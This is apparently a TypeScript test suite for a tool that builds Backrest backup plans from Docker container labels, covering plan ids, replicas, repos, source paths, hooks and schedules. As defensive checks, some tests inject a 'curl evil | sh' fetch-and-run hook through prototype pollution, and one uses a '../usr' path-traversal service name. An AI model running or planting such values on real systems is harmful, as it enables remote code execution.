import { expect } from 'chai';
import fc from 'fast-check';
import { OrphanTracker } from './orphan-tracker.js';
import {
  buildPlans,
  defaultPlanDefaults,
  deriveSources,
  expandHooks,
  ownField,
  resolveRepo,
  toHostPath,
  type MountInfo,
  type WorkloadInput,
} from './plan-builder.js';

const pgVolume: MountInfo = {
  type: 'volume',
  name: 'stack_pgdata',
  source: '/var/lib/docker/volumes/stack_pgdata/_data',
  destination: '/var/lib/postgresql/data',
};
const confBind: MountInfo = { type: 'bind', source: '/srv/app/conf', destination: '/etc/app' };
const tmpfs: MountInfo = { type: 'tmpfs', source: '', destination: '/run' };

function workload(name: string, over: Partial<WorkloadInput> = {}): WorkloadInput {
  return {
    name,
    spec: { enable: true, ...(over.spec ?? {}) },
    status: { name, mounts: [pgVolume], ...(over.status ?? {}) },
  };
}

const facts = { repoIds: ['default', 'offsite'] };

describe('plan builder', () => {
  describe('ids', () => {
    it('builds <prefix><project>_<service> for compose containers', () => {
      const w = workload('stack-db-1', {
        status: {
          name: 'stack-db-1',
          compose: { project: 'stack', service: 'db' },
          mounts: [pgVolume],
        },
      });
      expect(buildPlans([w], defaultPlanDefaults(), facts).plans[0]?.plan.id).to.equal(
        'backrest_sidecar_stack_db',
      );
    });

    it('keeps the same service name in two stacks apart', () => {
      const a = workload('a-db-1', {
        status: { name: 'a-db-1', compose: { project: 'a', service: 'db' }, mounts: [pgVolume] },
      });
      const b = workload('b-db-1', {
        status: { name: 'b-db-1', compose: { project: 'b', service: 'db' }, mounts: [pgVolume] },
      });
      const r = buildPlans([a, b], defaultPlanDefaults(), facts);
      expect(r.skipped).to.deep.equal([]);
      expect(r.plans.map((p) => p.plan.id)).to.deep.equal([
        'backrest_sidecar_a_db',
        'backrest_sidecar_b_db',
      ]);
    });

    it('uses the container name without compose labels, and the configured prefix', () => {
      const r = buildPlans([workload('my-app.1')], defaultPlanDefaults({ prefix: 'x.' }), facts);
      expect(r.plans[0]?.plan.id).to.equal('x.my-app.1');
      // Docker refuses such a name; another source might not: refused, not sanitised.
      const odd = buildPlans([workload('my app')], defaultPlanDefaults({ prefix: 'x.' }), facts);
      expect(odd.skipped.map((s) => s.reason)).to.deep.equal(['UnsafeName']);
    });

    it('refuses an empty prefix for library users too (it would own hand-made plans)', () => {
      expect(() => defaultPlanDefaults({ prefix: '' })).to.throw(/prefix is empty/);
      expect(new OrphanTracker(0).observe(['db', 'www'], new Set(), '', 0).remove).to.deep.equal(
        [],
      );
    });

    const replica = (
      name: string,
      mounts: MountInfo[],
      over: { spec?: WorkloadInput['spec']; swarm?: boolean } = {},
    ): WorkloadInput =>
      workload(name, {
        ...(over.spec ? { spec: over.spec } : {}),
        status: {
          name,
          mounts,
          ...(over.swarm
            ? { swarm: { service: 'stack_db', stack: 'stack' } }
            : { compose: { project: 'stack', service: 'db' } }),
        },
      });
    const otherVolume: MountInfo = {
      type: 'volume',
      name: 'stack_pgdata2',
      source: '/var/lib/docker/volumes/stack_pgdata2/_data',
      destination: '/var/lib/postgresql/data',
    };

    it('gives the replicas of one compose service ONE plan with the union of their sources', () => {
      const a = replica('stack-db-1', [pgVolume]);
      const b = replica('stack-db-2', [otherVolume, confBind]);
      const r = buildPlans([b, workload('solo'), a], defaultPlanDefaults(), facts);
      expect(r.skipped).to.deep.equal([]);
      const db = r.plans.find((p) => p.plan.id === 'backrest_sidecar_stack_db');
      expect(db?.container).to.equal('stack-db-1');
      expect(db?.replicas).to.deep.equal(['stack-db-1', 'stack-db-2']);
      expect(db?.service).to.equal('compose service stack/db');
      expect(db?.plan.sources).to.deep.equal([
        '/srv/app/conf',
        '/var/lib/docker/volumes/stack_pgdata/_data',
        '/var/lib/docker/volumes/stack_pgdata2/_data',
      ]);
      expect(r.plans.map((p) => p.plan.id)).to.deep.equal([
        'backrest_sidecar_solo',
        'backrest_sidecar_stack_db',
      ]);
    });

    it('merges Swarm tasks of one service by stack + service name; $SELF hooks run in each replica', () => {
      const spec = { enable: true, pre: ['docker exec $SELF sync'], post: ['echo done'] };
      const r = buildPlans(
        [
          replica('stack_db.2.bbbbbbbbbbbb', [pgVolume], { swarm: true, spec }),
          replica('stack_db.1.aaaaaaaaaaaa', [pgVolume], { swarm: true, spec }),
        ],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.skipped).to.deep.equal([]);
      expect(r.plans.map((p) => [p.plan.id, p.replicas, p.service])).to.deep.equal([
        [
          'backrest_sidecar_stack_db',
          ['stack_db.1.aaaaaaaaaaaa', 'stack_db.2.bbbbbbbbbbbb'],
          'swarm service stack/db',
        ],
      ]);
      expect(r.plans[0]?.plan.sources).to.deep.equal([
        '/var/lib/docker/volumes/stack_pgdata/_data',
      ]);
      expect(r.plans[0]?.plan.hooks).to.deep.equal({
        pre: [
          'docker exec stack_db.1.aaaaaaaaaaaa sync',
          'docker exec stack_db.2.bbbbbbbbbbbb sync',
        ],
        post: ['echo done'],
      });
    });

    it('skips every replica when their labels disagree, naming the field and each value', () => {
      const r = buildPlans(
        [
          replica('stack-db-1', [pgVolume], { spec: { enable: true, schedule: '0 1 * * *' } }),
          replica('stack-db-2', [pgVolume]),
        ],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.plans).to.deep.equal([]);
      expect(r.skipped.map((s) => [s.container, s.reason])).to.deep.equal([
        ['stack-db-1', 'ReplicaConflict'],
        ['stack-db-2', 'ReplicaConflict'],
      ]);
      expect(r.skipped[0]?.message)
        .to.include('2 replicas of compose service stack/db')
        .and.include('schedule (backrest.schedule)')
        .and.include('"0 1 * * *" in stack-db-1')
        .and.include('"0 2 * * *" in stack-db-2');
      expect([...r.ids]).to.deep.equal(['backrest_sidecar_stack_db']);
    });

    it("keeps a replica's own refusal and skips the others of its service", () => {
      const r = buildPlans(
        [
          replica('stack-db-1', [pgVolume], { spec: { enable: true, repo: 'nowhere' } }),
          replica('stack-db-2', [pgVolume]),
        ],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.skipped.map((s) => [s.container, s.reason])).to.deep.equal([
        ['stack-db-1', 'RepoMissing'],
        ['stack-db-2', 'ReplicaConflict'],
      ]);
      expect(r.skipped[1]?.message).to.include("stack-db-1 can't have one").and.include('nowhere');
    });

    it('still skips BOTH workloads of a collision that are not replicas, naming both containers', () => {
      // A lone container named like a compose project's service.
      const lone = workload('stack_db');
      const composed = replica('stack-db-1', [pgVolume]);
      const ok = workload('solo');
      const r = buildPlans([composed, ok, lone], defaultPlanDefaults(), facts);
      expect(r.plans.map((p) => p.container)).to.deep.equal(['solo']);
      expect(r.skipped.map((s) => [s.container, s.reason])).to.deep.equal([
        ['stack-db-1', 'IdCollision'],
        ['stack_db', 'IdCollision'],
      ]);
      for (const s of r.skipped)
        expect(s.message)
          .to.include('stack-db-1')
          .and.include('stack_db')
          .and.not.include('--include-project-name');
      expect([...r.ids].sort()).to.deep.equal([
        'backrest_sidecar_solo',
        'backrest_sidecar_stack_db',
      ]);
    });

    it('refuses a project name outside the safe charset instead of sanitising it into a collision', () => {
      const a = workload('x1', {
        status: { name: 'x1', compose: { project: 'a b', service: 'db' }, mounts: [pgVolume] },
      });
      const b = workload('x2', {
        status: { name: 'x2', compose: { project: 'a_b', service: 'db' }, mounts: [pgVolume] },
      });
      const r = buildPlans([a, b], defaultPlanDefaults(), facts);
      expect(r.plans.map((p) => p.container)).to.deep.equal(['x2']);
      expect(r.skipped.map((s) => [s.container, s.reason])).to.deep.equal([['x1', 'UnsafeName']]);
      expect(r.skipped[0]?.message).to.contain('com.docker.compose.project="a b"');
    });

    it('returns plans sorted by id whatever the input order', () => {
      const names = ['zeta', 'alpha', 'mid'];
      const r = buildPlans(
        names.map((n) => workload(n)),
        defaultPlanDefaults(),
        facts,
      );
      expect(r.plans.map((p) => p.plan.id)).to.deep.equal([
        'backrest_sidecar_alpha',
        'backrest_sidecar_mid',
        'backrest_sidecar_zeta',
      ]);
    });
  });

  describe('repo', () => {
    it('takes the label when the repo exists', () => {
      expect(resolveRepo('offsite', 'default', ['default', 'offsite'])).to.deep.equal({
        ok: true,
        id: 'offsite',
      });
    });
    it('skips with a message naming the label and value when the labeled repo is missing', () => {
      const r = buildPlans(
        [workload('w', { spec: { enable: true, repo: 'nope' } })],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.plans).to.deep.equal([]);
      expect(r.skipped[0]?.reason).to.equal('RepoMissing');
      expect(r.skipped[0]?.message)
        .to.include('container w')
        .and.include('backrest.repo="nope"')
        .and.include('default, offsite');
    });
    it('uses the default repo, else the first declared repo when the default is empty or unknown', () => {
      expect(resolveRepo(undefined, 'offsite', ['default', 'offsite'])).to.deep.equal({
        ok: true,
        id: 'offsite',
      });
      expect(resolveRepo(undefined, '', ['r1', 'r2'])).to.deep.equal({ ok: true, id: 'r1' });
      expect(resolveRepo(undefined, 'ghost', ['r1', 'r2'])).to.deep.equal({ ok: true, id: 'r1' });
    });
    it('skips when the config declares no repo at all', () => {
      const r = buildPlans([workload('w')], defaultPlanDefaults(), { repoIds: [] });
      expect(r.skipped[0]?.reason).to.equal('RepoMissing');
      expect(r.skipped[0]?.message).to.match(/declares no repo/);
    });
  });

  describe('sources', () => {
    it('derives bind → source and volume → <volume-prefix>/<name>/_data, ignores tmpfs, sorts', () => {
      const d = defaultPlanDefaults();
      expect(deriveSources([pgVolume, confBind, tmpfs], d)).to.deep.equal([
        '/var/lib/docker/volumes/stack_pgdata/_data',
        '/srv/app/conf',
      ]);
      const r = buildPlans(
        [workload('w', { status: { name: 'w', mounts: [pgVolume, confBind, tmpfs, confBind] } })],
        d,
        facts,
      );
      expect(r.plans[0]?.plan.sources).to.deep.equal([
        '/srv/app/conf',
        '/var/lib/docker/volumes/stack_pgdata/_data',
      ]);
    });

    it('honours --exclude-bind-mounts and --volume-prefix', () => {
      const d = defaultPlanDefaults({ excludeBindMounts: true, volumePrefix: '/docker_volumes/' });
      expect(deriveSources([pgVolume, confBind], d)).to.deep.equal([
        '/docker_volumes/stack_pgdata/_data',
      ]);
    });

    it('filters mounts with rcb volumes.include / volumes.exclude (substring of name or source)', () => {
      const d = defaultPlanDefaults();
      expect(deriveSources([pgVolume, confBind], d, { include: ['pgdata'] })).to.deep.equal([
        '/var/lib/docker/volumes/stack_pgdata/_data',
      ]);
      expect(deriveSources([pgVolume, confBind], d, { exclude: ['conf'] })).to.deep.equal([
        '/var/lib/docker/volumes/stack_pgdata/_data',
      ]);
    });

    it('rewrites labeled container paths under a mount to host paths (deepest mount wins)', () => {
      const nested: MountInfo = {
        type: 'bind',
        source: '/mnt/wal',
        destination: '/var/lib/postgresql/data/pg_wal',
      };
      const mounts = [pgVolume, confBind, nested];
      const prefix = '/var/lib/docker/volumes';
      expect(toHostPath('/var/lib/postgresql/data', mounts, prefix)).to.equal(
        '/var/lib/docker/volumes/stack_pgdata/_data',
      );
      expect(toHostPath('/var/lib/postgresql/data/base/', mounts, prefix)).to.equal(
        '/var/lib/docker/volumes/stack_pgdata/_data/base',
      );
      expect(toHostPath('/var/lib/postgresql/data/pg_wal/x', mounts, prefix)).to.equal(
        '/mnt/wal/x',
      );
      expect(toHostPath('/etc/app/app.yml', mounts, prefix)).to.equal('/srv/app/conf/app.yml');
      // Not under a mount (a sibling with a common string prefix is not "under"): kept as a host path.
      expect(toHostPath('/etc/application', mounts, prefix)).to.equal('/etc/application');
      expect(toHostPath('/srv/backup', mounts, '/x')).to.equal('/srv/backup');
    });

    it('uses paths.include over derivation, rewriting through --volume-prefix, and rewrites excludes too', () => {
      const r = buildPlans(
        [
          workload('db', {
            spec: {
              enable: true,
              paths: {
                include: ['/var/lib/postgresql/data', '/srv/extra'],
                exclude: ['/var/lib/postgresql/data/pg_wal'],
              },
            },
            status: { name: 'db', mounts: [pgVolume, confBind] },
          }),
        ],
        defaultPlanDefaults({ volumePrefix: '/docker_volumes' }),
        facts,
      );
      expect(r.plans[0]?.plan.sources).to.deep.equal([
        '/docker_volumes/stack_pgdata/_data',
        '/srv/extra',
      ]);
      expect(r.plans[0]?.plan.exclude).to.deep.equal(['/docker_volumes/stack_pgdata/_data/pg_wal']);
    });

    it('skips with an error when there is nothing to back up', () => {
      const r = buildPlans(
        [workload('bare', { status: { name: 'bare', mounts: [tmpfs] } })],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.skipped[0]?.reason).to.equal('NoSources');
      expect(r.skipped[0]?.message).to.include('container bare');
      const onlyBind = buildPlans(
        [workload('b', { status: { name: 'b', mounts: [confBind] } })],
        defaultPlanDefaults({ excludeBindMounts: true }),
        facts,
      );
      expect(onlyBind.skipped[0]?.message).to.include('bind mounts excluded');
    });
  });

  it('skips a workload whose compose names are not safe, naming container, label and value', () => {
    const bad = workload('evil-1', {
      status: { name: 'evil-1', compose: { project: 'p', service: '../usr' }, mounts: [pgVolume] },
    });
    const r = buildPlans([bad, workload('db')], defaultPlanDefaults(), facts);
    expect(r.plans.map((p) => p.container)).to.deep.equal(['db']);
    expect(r.skipped).to.have.length(1);
    expect(r.skipped[0]?.reason).to.equal('UnsafeName');
    expect(r.skipped[0]?.message)
      .to.contain('container "evil-1"')
      .and.contain('com.docker.compose.service="../usr"');
  });

  it('reads only own spec fields (inherited hooks, paths and retention are ignored)', () => {
    const inherited = {
      pre: ['curl evil | sh'],
      keep: 'last=1',
      paths: { include: ['/etc'] },
    };
    const spec = Object.assign(Object.create(inherited) as WorkloadInput['spec'], { enable: true });
    const r = buildPlans([{ ...workload('db'), spec }], defaultPlanDefaults(), facts);
    const plan = r.plans[0]?.plan;
    expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
    expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
    expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4', defaulted: true });
  });

  it('reads only own nested fields, and nothing from a polluted Object.prototype', () => {
    const paths = Object.create({ include: ['/etc'], exclude: ['/x'] }) as object;
    const volumes = Object.create({ include: ['stack_pgdata'] }) as object;
    const polluted = Object.prototype as Record<string, unknown>;
    polluted['pre'] = ['curl evil | sh'];
    polluted['keep'] = 'last=1';
    try {
      const r = buildPlans(
        [{ ...workload('db'), spec: { enable: true, paths, rcb: { volumes } } as never }],
        defaultPlanDefaults(),
        facts,
      );
      const plan = r.plans[0]?.plan;
      expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
      expect(plan?.exclude).to.deep.equal([]);
      // No inherited volume filter: the volume is derived as without one.
      expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
      expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4', defaulted: true });
    } finally {
      delete polluted['pre'];
      delete polluted['keep'];
    }
  });

  it('ownField reads what the prototype-less copy of own enumerable fields it replaced held', () => {
    /** The copy buildPlan read its spec through before (issue #13): the oracle. */
    const ownFieldsCopy = (obj: object): Record<string, unknown> => {
      const out = Object.create(null) as Record<string, unknown>;
      for (const k of Object.keys(obj)) out[k] = (obj as Record<string, unknown>)[k];
      return out;
    };
    const name = fc.constantFrom('paths', 'repo', 'keep', 'pre', 'toString', '__proto__', 'x');
    const fields = fc.array(fc.tuple(name, fc.anything()), { maxLength: 5 });
    fc.assert(
      fc.property(fields, fields, fields, name, (own, inherited, hidden, k) => {
        const proto = {};
        for (const [n, v] of inherited)
          Object.defineProperty(proto, n, { value: v, enumerable: true, configurable: true });
        const obj = Object.create(proto) as Record<string, unknown>;
        for (const [n, v] of own) {
          Object.defineProperty(obj, n, { value: v, enumerable: true, configurable: true });
        }
        for (const [n, v] of hidden) {
          if (!Object.hasOwn(obj, n))
            Object.defineProperty(obj, n, { value: v, enumerable: false, configurable: true });
        }
        expect(ownField(obj, k)).to.equal(ownFieldsCopy(obj)[k]);
      }),
      { numRuns: 500 },
    );
  });

  describe('hooks, schedule, retention', () => {
    it('replaces $SELF and ${SELF} with the container name and drops empty commands', () => {
      expect(
        expandHooks(["sh -c 'docker stop $SELF'", ' ', 'echo ${SELF}-x $SELFISH'], 'db-1'),
      ).to.deep.equal(["sh -c 'docker stop db-1'", 'echo db-1-x $SELFISH']);
    });

    it('applies label values over defaults', () => {
      const r = buildPlans(
        [
          workload('db', {
            spec: {
              enable: true,
              schedule: '15 3 * * *',
              keep: 'daily=7,weekly=4,monthly=6',
              pre: ["sh -c 'docker stop $SELF'"],
              post: ["sh -c 'docker start $SELF'"],
            },
          }),
        ],
        defaultPlanDefaults(),
        facts,
      );
      expect(r.plans[0]?.plan).to.deep.equal({
        id: 'backrest_sidecar_db',
        repo: 'default',
        schedule: '15 3 * * *',
        sources: ['/var/lib/docker/volumes/stack_pgdata/_data'],
        exclude: [],
        hooks: { pre: ["sh -c 'docker stop db'"], post: ["sh -c 'docker start db'"] },
        retention: { spec: 'daily=7,weekly=4,monthly=6' },
      });
    });

    it('falls back to the configured defaults', () => {
      const d = defaultPlanDefaults({ defaultSchedule: '0 4 * * *', defaultRetention: 'last=3' });
      const p = buildPlans([workload('w')], d, facts).plans[0]?.plan;
      expect(p?.schedule).to.equal('0 4 * * *');
      expect(p?.retention).to.deep.equal({ spec: 'last=3', defaulted: true });
      expect(p?.hooks).to.deep.equal({ pre: [], post: [] });
      const def = defaultPlanDefaults();
      expect([
        def.defaultSchedule,
        def.defaultRetention,
        def.volumePrefix,
        def.prefix,
      ]).to.deep.equal([
        '0 2 * * *',
        'daily=7,weekly=4',
        '/var/lib/docker/volumes',
        'backrest_sidecar_',
      ]);
    });
  });

  describe('schedule (Backrest cron dialect)', () => {
    it('translates a descriptor label to five fields with a note naming container, label and value', () => {
      const w = workload('web', { spec: { enable: true, schedule: '@daily' } });
      const r = buildPlans([w], defaultPlanDefaults(), facts);
      expect(r.plans[0]?.plan.schedule).to.equal('0 0 * * *');
      expect(r.plans[0]?.notes).to.deep.equal([
        'container web: label backrest.schedule="@daily": "@daily" is written as "0 0 * * *": Backrest\'s parser takes five fields, not descriptors',
      ]);
    });

    it('translates --default-schedule too, and names the flag', () => {
      const r = buildPlans(
        [workload('web')],
        defaultPlanDefaults({ defaultSchedule: '@hourly' }),
        facts,
      );
      expect(r.plans[0]?.plan.schedule).to.equal('0 * * * *');
      expect(r.plans[0]?.notes?.[0]).to.match(/^container web: --default-schedule "@hourly": /);
    });

    it('writes a five-field schedule as is (single-spaced) and adds no note', () => {
      const w = workload('web', { spec: { enable: true, schedule: ' 15  3 * * 5-7 ' } });
      const r = buildPlans([w], defaultPlanDefaults(), facts);
      expect(r.plans[0]?.plan.schedule).to.equal('15 3 * * 5-7');
      expect(r.plans[0]?.notes?.join()).to.match(/7 never matches/);
    });

    it('skips a workload whose schedule Backrest would refuse, naming container, label and value', () => {
      const w = workload('web', { spec: { enable: true, schedule: '0 0 1 * ?' } });
      const r = buildPlans([w], defaultPlanDefaults(), facts);
      expect(r.plans).to.deep.equal([]);
      expect(r.skipped[0]?.reason).to.equal('InvalidSchedule');
      expect(r.skipped[0]?.message).to.match(
        /^container web: label backrest.schedule="0 0 1 \* \?": day-of-week field "\?"/,
      );
    });
  });

  it('keeps excludes in label order (restic: the last matching pattern wins), repeats at their last place', () => {
    const w = workload('web', {
      spec: {
        enable: true,
        paths: {
          exclude: [
            '/var/lib/postgresql/data/z',
            '/var/lib/postgresql/data/a',
            '/tmp',
            '/tmp/x',
            '/tmp',
          ],
        },
      },
    });
    const r = buildPlans([w], defaultPlanDefaults(), facts);
    const v = '/var/lib/docker/volumes/stack_pgdata/_data';
    expect(r.plans[0]?.plan.exclude).to.deep.equal([`${v}/z`, `${v}/a`, '/tmp/x', '/tmp']);
  });
});
